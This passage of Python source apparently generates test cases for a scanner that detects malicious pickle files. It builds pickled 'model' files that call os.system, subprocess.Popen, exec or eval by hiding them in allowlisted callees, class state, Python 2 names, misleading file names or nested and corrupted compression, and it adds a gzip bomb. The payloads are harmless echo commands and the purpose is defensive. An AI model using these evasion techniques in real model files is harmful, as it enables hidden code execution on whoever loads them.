    arr = lambda n: Build(Call(G("numpy.core.multiarray", "_reconstruct"), G("numpy", "ndarray"), (0,), b"b"), (1, (n,), Build(Call(G("numpy", "dtype"), "f8", False, True), (3, "<", None, None, None, -1, -1, 0)), False, rng.randbytes(8 * n)))
    for p in (2, 3, 4, 5):
        E(dumps([arr(20000), Call(t.target(), t.cmd()), arr(10)], p), "payload after a large array")
    obj = Build(Call(G("numpy.core.multiarray", "_reconstruct"), G("numpy", "ndarray"), (0,), b"b"), (1, (2,), Build(Call(G("numpy", "dtype"), "O8", False, True), (3, "|", None, None, None, -1, -1, 63)), False, [1, Call(t.target(), t.cmd())]))
    E(dumps(obj, 4), "payload inside the list of an object array")
    # --- the callee is allowlisted, the argument is not
    for fn, args in ((("collections", "defaultdict"), (G("os", "system"),)), (("collections", "Counter"), (New(G("builtins", "map"), G("os", "system"), ["echo"]),)), (("builtins", "set"), (Call(G("builtins", "map"), G("os", "system"), ["echo"]),)), (("functools", "partial"), (G("subprocess", "Popen"),)), (("builtins", "tuple"), (Call(G("itertools", "starmap"), G("os", "popen"), [("echo",)]),)),
                     (("builtins", "sum"), (Call(G("builtins", "map"), G("os", "system"), ["echo"]), 0)), (("builtins", "any"), (Call(G("builtins", "map"), G("builtins", "exec"), ["print(1)"]),)), (("numpy", "fromiter"), (Call(G("builtins", "map"), G("os", "system"), ["echo"]), "f8")), (("heapq", "nlargest"), (1, ["echo"], G("os", "system"))), (("bisect", "bisect"), (["echo"], "x", 0, 1, G("os", "system"))),
                     (("re", "sub"), ("e", G("os", "system"), "echo")), (("builtins", "min"), (["echo", "x"], G("os", "system"))), (("torch.nn.modules.container", "Sequential"), (Call(G("os", "system"), "echo"),)), (("sklearn.preprocessing._function_transformer", "FunctionTransformer"), (G("os", "system"),)), (("copyreg", "_reconstructor"), (G("subprocess", "Popen"), G("builtins", "object"), None)), (("copyreg", "__newobj__"), (G("subprocess", "Popen"), "echo")), (("copyreg", "__newobj_ex__"), (G("subprocess", "Popen"), ("echo",), {"shell": True})),
                     (("copyreg", "__reduce_ex__"), (G("os", "system"), 2))):
        p = rng.choice([2, 4, 5])
        E(dumps(wrap(rng, Call(G(*fn), *args)), p), "harmless-looking callee %s.%s with a harmful argument" % fn)
    # --- classes that run code from their state
    for cls, st in ((("sklearn.preprocessing._function_transformer", "FunctionTransformer"), {"func": G("os", "system"), "inverse_func": None}), (("sklearn.pipeline", "Pipeline"), {"steps": [("a", G("os", "system"))]}), (("functools", "partial"), (G("os", "system"), ("echo",), {}, None)), (("torch.nn.modules.linear", "Linear"), {"forward": G("os", "system"), "training": True}),
                    (("torch.nn.modules.container", "Sequential"), {"_forward_hooks": {1: G("os", "system")}}), (("collections", "OrderedDict"), {"default": G("subprocess", "Popen")}), (("transformers.training_args", "TrainingArguments"), {"_post": G("builtins", "exec")}), (("torch.utils.data.dataloader", "DataLoader"), {"collate_fn": G("os", "system")}), (("transformers.tokenization_utils_base", "BatchEncoding"), {"_x": G("builtins", "eval")})):
        p = rng.choice([2, 4, 5])
        E(dumps(Build(New(G(*cls)), st), p), "harmful reference planted in the state of %s" % cls[1], "planted-callback")
    # --- Python 2 spellings
    for m, n in (("__builtin__", "eval"), ("__builtin__", "execfile"), ("exceptions", "SystemExit"), ("commands", "getstatusoutput"), ("urllib2", "urlopen"), ("cPickle", "loads"), ("UserDict", "os"), ("itertools", "imap"), ("__builtin__", "unicode"), ("thread", "start_new_thread"), ("Queue", "os"), ("ConfigParser", "RawConfigParser"), ("_winreg", "SetValue"), ("Tkinter", "Tk"), ("htmlentitydefs", "os.system")):
        if (m, n) in (("__builtin__", "unicode"), ("exceptions", "SystemExit"), ("ConfigParser", "RawConfigParser"), ("UserDict", "os"), ("Queue", "os"), ("htmlentitydefs", "os.system")):
            continue
        p = rng.choice([0, 1, 2])
        args = (t.target(), [t.cmd()]) if n == "imap" else (t.target(), (t.cmd(),)) if m == "thread" else (t.cmd(),)
        E(dumps(Call(G(m, n), *args), p, py2=rng.random() < .5), "Python 2 name %s.%s, protocol %d" % (m, n, p))
    # --- odd layout
    for nm in ("model", "0", "weights.safetensors", "config.json", "model.onnx", "README.md", "tokenizer.model", "model.h5", "x.gguf", "array.npy", "model.tflite", "_METADATA", "d/manifest.ocdbt", ".hidden", "model.pkl.gz", "image.png", "params.npz", "events.out.tfevents", "model.zip", "spiece.model", "data.parquet"):
        E(dumps(Call(t.target(), t.cmd()), rng.choice([0, 2, 4, 5])), "pickle under an odd name", name=nm)
    for pre in (b"\n", b"\xef\xbb\xbf", b"\x00" * 16, b"MZ\x90\x00" + b"\x00" * 60, b"#!/usr/bin/env python\n"):
        s.add(FAM, "review", "model.pkl", pre + dumps(Call(t.target(), t.cmd()), 4), "bytes before the pickle", "code-exec")
    E(b"(S'echo case'\nios\nsystem\n.", "smallest INST")
    E(b"cos\nsystem\n(S'echo case'\ntR.", "smallest GLOBAL REDUCE")
    E(b"c os\nsystem\n(Vecho\ntR."[:0] or b"cposix\nsystem\n(Vecho case\ntR.", "UNICODE argument")
    E(b"\x80\x03cos\r\nsystem\r\n."[:0] or b"\x80\x04(\x8c\x05posix\x8c\x06system\x93\x8c\x04echoo.", "OBJ over STACK_GLOBAL")


def compressed(s, rng):
    """The whole pickle in a compressed wrapper."""
    t = T(rng)
    for ext, f in ((".pkl.gz", lambda b: gzip.compress(b, mtime=0)), (".pkl.bz2", bz2.compress), (".pkl.xz", lzma.compress), (".pkl.lzma", lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE)), (".pkl.z", zlib.compress), (".pgz", lambda b: gzip.compress(b, mtime=0)), (".pbz2", bz2.compress), (".pkl", zlib.compress)):
        for p in (2, 4):
            s.add("compressed", "malicious", "model" + ext, f(dumps(wrap(rng, Call(t.target(), t.cmd())), p)), "pickle compressed as %s" % ext, "code-exec")
        s.add("compressed", "benign", "model" + ext, f(dumps({"coef": [rng.random() for _ in range(50)], "classes": ["a", "b"]}, 4)), "benign pickle compressed as %s" % ext)
    good, bad = dumps({"x": [1, 2, 3] * 20}, 4), dumps(Call(t.target(), t.cmd()), 4)
    gz = lambda b: gzip.compress(b, mtime=0)
    s.add("compressed", "malicious", "model.pkl.gz", gz(bad[:10]) + gz(bad[10:]), "pickle split over two gzip members", "code-exec")
    s.add("compressed", "malicious", "model.pkl.gz", gz(b"") + gz(bad), "empty gzip member first", "code-exec")
    s.add("compressed", "malicious", "model.pkl.gz", gz(good) + gz(bad), "second gzip member holds a second stream", "code-exec")
    s.add("compressed", "malicious", "model.pkl.bz2", bz2.compress(bad[:9]) + bz2.compress(bad[9:]), "pickle split over two bzip2 streams", "code-exec")
    s.add("compressed", "malicious", "model.pkl.xz", lzma.compress(bad[:9]) + b"\0" * 8 + lzma.compress(bad[9:]), "pickle split over two xz streams with padding", "code-exec")
    s.add("compressed", "malicious", "model.pkl.gz", gz(gz(bad)), "gzip in gzip", "code-exec")
    s.add("compressed", "malicious", "model.pkl", bz2.compress(gz(zlib.compress(bad))), "three wrappers", "code-exec")
    z = bytearray(gz(bad)); z[-8:-4] = b"\0\0\0\0"
    s.add("compressed", "malicious", "model.pkl.gz", bytes(z), "gzip with a wrong CRC", "code-exec")
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = co.compress(bad) + co.flush()
    s.add("compressed", "malicious", "model.pkl.gz", b"\x1f\x8b\x08\x1c" + b"\0" * 6 + b"\x05\x00extra" + b"model.pkl\0" + b"comment\0" + raw + struct.pack("<II", zlib.crc32(bad), len(bad)), "gzip with extra, name and comment fields", "code-exec")
    s.add("compressed", "malicious", "model.pkl.gz", gz(bad)[:-6], "gzip cut inside the trailer", "code-exec")
    s.add("compressed", "suspicious", "model.pkl.gz", gz(b"\0" * 60_000_000), "gzip bomb by ratio", "dos")
    s.add("compressed", "inconclusive", "model.pkl.gz", gz(dumps(list(range(5000)), 4))[:400], "gzip cut in the middle")
    s.add("compressed", "inconclusive", "model.pkl.bz2", bz2.compress(dumps([rng.random() for _ in range(5000)], 4))[:900], "bzip2 cut in the middle")
    s.add("compressed", "inconclusive", "model.pkl.xz", lzma.compress(dumps([rng.random() for _ in range(5000)], 4))[:900], "xz cut in the middle")


def build(s):
    gadget_cases(s, s.rng("pickle.gadgets"))
    technique_cases(s, s.rng("pickle.techniques"))
    compressed(s, s.rng("pickle.compressed"))
    s.add(FAM, "inconclusive", "model.pkl", dumps({"a": list(range(100))}, 4)[:60], "cut before anything ran")
    s.add(FAM, "inconclusive", "model.pkl", dumps({"a": [words(s.rng("q"), 5)]}, 2)[:12], "cut inside a string, nothing ran")
